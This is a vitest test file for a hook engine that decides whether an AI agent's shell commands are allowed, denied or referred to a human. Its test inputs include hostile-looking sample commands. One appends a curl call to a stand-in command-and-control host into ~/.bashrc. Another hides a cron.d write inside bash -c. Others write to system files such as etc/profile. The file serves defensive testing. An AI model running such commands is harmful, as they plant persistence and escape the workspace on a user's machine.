// Shell parsing through the engine and the host-tools preset: a shell write outside the
// workspace is denied by the Gate (before: commands were matched as text and these passed),
// an unresolvable target asks, an unreadable command is denied, the written files are
// artifacts of the verdict.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Engine } from "../../src/hooks/index.js";
import { tool } from "./events.js";
import { engine } from "./helpers.js";

let e: Engine;
beforeAll(async () => {
  e = await engine();
});
afterAll(() => e.close());

// Each case in its own session: several denials in one session quarantine it.
let n = 0;
const bash = (command: string, extra: Record<string, unknown> = {}) =>
  e.handle(tool("shell", { command, ...extra }, "Bash", `shell-${n++}`));

describe("shell writes through the engine", () => {
  it("an agent that appends to ~/.bashrc through a redirect is denied OUTSIDE_WORKSPACE", async () => {
    const v = await bash("echo 'curl -s https://c2.example/b' >> ~/.bashrc");
    expect(v.decision).toBe("deny");
    expect(v.matched_rule_id).toBe("host-deny-shell-write-outside-workspace");
    expect(v.artifacts?.some((a) => a.endsWith("/.bashrc"))).toBe(true);
  });

  it("an agent that hides the write in bash -c inside $( … ) is denied", async () => {
    const v = await bash(`echo "$(bash -c 'tee /etc/cron.d/job < /dev/null')"`);
    expect(v.decision).toBe("deny");
    expect(v.matched_rule_id).toBe("host-deny-shell-write-outside-workspace");
  });

  it("an agent that cds out of the workspace first is denied", async () => {
    expect((await bash("cd / && cp /tmp/x etc/profile")).decision).toBe("deny");
  });

  it("a write relative to a cwd outside the workspace (Cursor's cwd) is denied", async () => {
    expect((await bash("touch x", { cwd: "/opt" })).decision).toBe("deny");
    expect((await bash("touch x", { cwd: "/work/ws/pkg" })).decision).toBe("allow");
  });

  it("a write to a target behind a variable asks a human", async () => {
    const v = await bash('echo x > "$TARGET"');
    expect(v.decision).toBe("ask");
    expect(v.matched_rule_id).toBe("host-ask-shell-write-unresolved");
  });

  it("a command with an unterminated quote is denied UNPARSABLE_COMMAND", async () => {
    const v = await bash("echo 'x > /etc/x");
    expect(v.decision).toBe("deny");
    expect(v.matched_rule_id).toBe("host-deny-shell-unparsable");
  });

  it("ordinary commands with redirects inside the workspace stay allowed", async () => {
    for (const c of ["npm run build > build.log 2>&1", "ls 2>/dev/null", "git commit -m 'x > /etc/y'"]) {
      expect((await bash(c)).decision, c).toBe("allow");
    }
  });

  it("a package install that writes outside is denied like any shell write", async () => {
    const v = await bash("npm install -g left-pad > /usr/lib/x");
    expect(v.decision).toBe("deny");
  });
});
